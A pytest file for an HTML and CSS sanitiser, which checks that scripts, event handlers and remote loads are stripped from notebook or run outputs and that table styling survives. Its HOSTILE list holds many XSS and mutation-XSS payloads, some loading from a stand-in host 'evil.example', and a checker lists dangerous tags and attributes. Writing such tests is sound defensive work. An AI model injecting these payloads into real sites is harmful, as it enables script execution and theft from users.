"""HTML from a run: nothing runs, nothing loads, tables keep their looks."""

from __future__ import annotations

from html.parser import HTMLParser

import great_tables
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.runs.sanitise import clean, clean_css


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "base",
            "link",
            "meta",
            "svg",
            "math",
        ):
            self.found.append(tag)
        for name, value in attributes:
            text = (value or "").strip().lower()
            if name.startswith("on") or name in ("srcdoc", "srcset", "action", "formaction", "background", "poster"):
                self.found.append(f"{tag} {name}")
            if name == "href" and text.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{tag} {text}")
            if name == "src" and not text.startswith("data:image/"):
                self.found.append(f"{tag} {text}")
            if name == "style" and ("url(" in text or "expression" in text or "position" in text):
                self.found.append(f"{tag} {text}")


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/pixel.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>a</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=a><button formaction=x>go</button></form>",
    "<div style='background-image:url(//evil.example)'>a</div>",
    "<div style='width:expression(alert(1))'>a</div>",
    "<div style='position:fixed;top:0'>a</div>",
    "<body onload=alert(1)><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>#a{}</style><script>alert(1)</script><style></style>",
    "<style>#a</st<script>yle></style><img src=x onerror=alert(1)>",
    "</pre></div></main><script>alert(1)</script>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_row_46_nothing_in_html_runs_or_loads(markup: str) -> None:
    """Case 46 (nbconvert#2016, #1014; ipython#9726): scripts and event handlers of outputs do not reach the page."""
    cleaned = clean(f"before {markup} after")
    assert Reader(cleaned).found == []
    assert "evil.example" not in cleaned
    assert cleaned.startswith("before") or "</style>\nbefore" in cleaned


def test_a_css_sheet_touches_its_own_table_only() -> None:
    css = """
    #own td, body { color: red; background: url(//evil.example); position: fixed }
    body { display: none }
    .dataframe tbody tr th { vertical-align: top }
    #own::after { content: "fake" }
    @import "//evil.example/x.css";
    @font-face { font-family: x; src: url(//evil.example) }
    @media print { #own { color: blue } }
    #own p { width: calc(1px + 2em); color: rgb(1, 2, 3); height: image-set("x" 1x) }
    """
    assert clean_css(css).split("\n") == [
        "#own td { color: red }",
        ".dataframe tbody tr th { vertical-align: top }",
        "#own p { width: calc(1px + 2em); color: rgb(1, 2, 3) }",
    ]


def test_tables_keep_their_looks_and_hostile_cells_stay_text() -> None:
    frame = pd.DataFrame({"text": ["<script>alert(1)</script>", "<img src=x onerror=alert(2)>"], "gain": [0.5, 1.0]})
    pages = [
        clean(great_tables.GT(frame).tab_header("Title").as_raw_html()),
        clean(frame.to_html()),
        clean(frame.style.format(escape="html").highlight_max(subset=["gain"], color="lightgreen").to_html()),
    ]
    for page in pages:
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert Reader(page).found == []
        assert "<td" in page
    assert ".gt_title { color: #333333" in pages[0]
    assert "background-color: lightgreen" in pages[2]


def test_what_is_safe_stays() -> None:
    image = '<img alt="plot" src="data:image/png;base64,iVBORw0KGgo=">'
    kept = f'<h2 id="a">T</h2><p style="color: red">x <b>y</b> <a href="#a">up</a></p><pre class="c">z</pre>{image}'
    cleaned = clean(kept)
    for part in ['id="a"', "color: red", "<b>y</b>", 'href="#a"', '<pre class="c">z</pre>', "iVBORw0KGgo="]:
        assert part in cleaned
    assert clean(cleaned) == cleaned


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<td>", "</table>", "<!--", "-->", "<style>", "text", "&lt;", "<", '"']), max_size=6
    )
)
def test_no_mixture_runs_or_loads(parts: list[str]) -> None:
    cleaned = clean("".join(parts))
    assert Reader(cleaned).found == []
    assert Reader(clean(cleaned)).found == []
